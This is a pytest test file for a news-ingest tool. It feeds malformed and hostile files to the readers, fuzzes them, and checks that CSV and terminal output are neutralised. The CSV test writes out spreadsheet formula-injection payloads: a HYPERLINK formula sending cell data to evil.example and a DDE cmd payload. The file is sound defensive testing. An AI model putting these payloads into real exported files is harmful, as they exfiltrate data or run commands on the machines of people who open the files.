"""Hostile input: a corpus of bad files built in a temporary folder ingests to the end, every good
article stored, every bad one a line; readers survive fuzzing; no output cell or line can attack."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sitrep.errors import InputError
from sitrep.ingest import MAX_CHARS, read_jsonl, read_path, text_hash
from sitrep.output import csv_safe, printable, write_rows

GOOD = "Gunmen killed three people in Maiduguri on Monday, police said."


def _corpus(folder: Path, outside: Path) -> dict[str, str]:
    """The hostile files (name -> the error code expected), plus good ones."""
    folder.mkdir()

    def put(name: str, data: str | bytes) -> None:
        raw = data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass")
        (folder / name).write_bytes(raw)

    deep = '{"id": "deep", "text": ' + "[" * 5000 + "]" * 5000 + "}"
    put("deep.jsonl", deep + "\n" + json.dumps({"id": "good-1", "text": GOOD}) + "\n")
    put(
        "surrogate.jsonl",
        '{"id": "s", "text": "Gunmen \\ud800 killed 3."}\n'
        + json.dumps({"id": "good-2", "text": GOOD + " Again."})
        + "\n",
    )
    put(
        "charref.xml",
        '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><title>a &#xFFFFFFFF;</title>'
        "<description>Gunmen killed 3 in Kano &#xFFFFFF;.</description></item></channel></rss>",
    )
    put(
        "control.rss",
        '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><title>t</title>'
        "<description>&lt;p&gt;Gunmen killed 3 in Kano\x01\x02 on Monday.&lt;/p&gt;</description>"
        "</item></channel></rss>",
    )
    put("year-one.jsonl", json.dumps({"id": "good-3", "text": GOOD + " Later.", "published": "0001-01-01"}) + "\n")
    put("too-long.txt", "Gunmen attacked the village. " * (MAX_CHARS // 29 + 10))
    put("binary.bin", bytes(range(256)) * 4)
    put("empty.txt", "")
    put(
        "good.txt",
        "Title: Good\nPublished: 2024-03-05\n\nGunmen killed five villagers in Zurmi on Sunday, police said.\n",
    )
    (outside / "secret.txt").write_text("Troops clashed with rebels in Goma on Monday, a secret said.", "utf-8")
    os.symlink(outside / "secret.txt", folder / "link.txt")
    os.mkfifo(folder / "pipe.txt")
    return {
        "deep.jsonl:1": "bad-json",
        "surrogate.jsonl:1": "encoding",
        "charref.xml": "unreadable",
        "too-long.txt": "too-large",
        "binary.bin": "binary",
        "empty.txt": "empty",
        "link.txt": "symlink",
        "pipe.txt": "not-a-file",
    }


def test_a_hostile_folder_reads_to_the_end(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    expected = _corpus(tmp_path / "in", outside)
    items = list(read_path(tmp_path / "in"))
    errors = {Path(e.source or "").name: e.code for e in items if isinstance(e, InputError)}
    articles = [a for a in items if not isinstance(a, InputError)]
    for name, code in expected.items():
        assert errors.get(name) == code, (name, errors)
    for err in items:
        if isinstance(err, InputError):
            assert "\n" not in str(err) and "Traceback" not in str(err)
    ids = {a.id for a in articles}
    assert {"good-1", "good-2", "good-3"} <= ids
    assert any("Zurmi" in a.text for a in articles)
    assert not any("secret" in a.text for a in articles)  # nothing from outside the folder
    year_one = next(a for a in articles if a.id == "good-3")
    assert year_one.published is None and [n.code for n in year_one.notes] == ["bad-published"]


def test_devices_are_refused_not_read() -> None:
    (err,) = list(read_path("/dev/zero"))
    assert isinstance(err, InputError) and err.code == "not-a-file" and "device" in str(err)


def test_copies_differing_in_composition_and_spacing_are_one_article() -> None:
    composed = "Gunmen attacked Ségou on Monday."
    decomposed = "Gunmen  attacked Se\u0301gou\non Monday."
    assert text_hash(composed) == text_hash(decomposed)
    assert text_hash(composed) != text_hash("Gunmen attacked Segou on Monday.")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=200) | st.binary(max_size=200).map(lambda b: b.decode("latin-1")), max_size=5))
def test_jsonl_reader_never_raises(lines: list[str]) -> None:
    for item in read_jsonl(lines, "<fuzz>"):
        assert isinstance(item, InputError) or item.text.strip()


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(
    st.binary(max_size=600)
    | st.builds(
        lambda body: (
            f'<?xml version="1.0"?><rss version="2.0"><channel><item><description>{body}</description>'
            "</item></channel></rss>".encode("utf-8", "surrogatepass")
        ),
        st.text(max_size=200),
    )
)
def test_file_readers_never_raise(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    for suffix in (".txt", ".html", ".jsonl", ".rss"):
        path = folder / f"input{suffix}"
        path.write_bytes(data)
        for item in read_path(path):
            assert isinstance(item, InputError) or item.text.strip()


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+cmd", "'+1+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-93.2638", "-93.2638"),
        ("+12", "+12"),
        ("Kano", "Kano"),
        (5, 5),
    ],
)
def test_csv_cells_are_neutralised(cell: object, safe: object) -> None:
    assert csv_safe(cell) == safe


def test_query_csv_has_no_formula_cell() -> None:
    buf = io.StringIO()
    write_rows([{"source": "=cmd|' /C calc'!A0", "longitude": -93.2}], "csv", buf)
    (row,) = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert not row["source"].startswith("=") and row["longitude"] == "-93.2"


def test_control_characters_are_shown_not_sent_to_the_terminal() -> None:
    assert printable("file\x1b[31mred\x07.txt") == "file\\x1b[31mred\\x07.txt"
    assert printable("two\nlines") == "two\nlines"


@pytest.mark.slow
def test_an_article_past_its_budget_is_an_error_line(monkeypatch: pytest.MonkeyPatch) -> None:
    from sitrep.errors import SitrepError
    from sitrep.ingest import article_from_text
    from sitrep.pipeline import BUDGET_ENV, extract_items

    text = "Gunmen killed three people in Maiduguri on Monday, police said. " * 200
    monkeypatch.setenv(BUDGET_ENV, "0.001")
    slow, fine = article_from_text(text, id="slow"), article_from_text(GOOD, id="fine")
    first = list(extract_items([slow]))
    assert isinstance(first[0], SitrepError) and first[0].code == "timeout" and BUDGET_ENV in str(first[0])
    monkeypatch.setenv(BUDGET_ENV, "0")  # no limit
    (report,) = list(extract_items([fine]))
    assert not isinstance(report, SitrepError) and report.article.id == "fine"


@pytest.mark.slow
def test_the_gazetteer_built_on_first_use_is_not_charged_to_the_first_article(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from sitrep.errors import SitrepError
    from sitrep.ingest import article_from_text
    from sitrep.pipeline import BUDGET_ENV, extract_items

    # a fresh machine: no gazetteer yet, and a budget far shorter than building one takes
    monkeypatch.setenv("SITREP_GAZETTEER", str(tmp_path / "first-use.sqlite"))
    monkeypatch.setenv(BUDGET_ENV, "5")
    (report,) = list(extract_items([article_from_text(GOOD, id="first")]))
    assert not isinstance(report, SitrepError), report
    assert (tmp_path / "first-use.sqlite").exists()
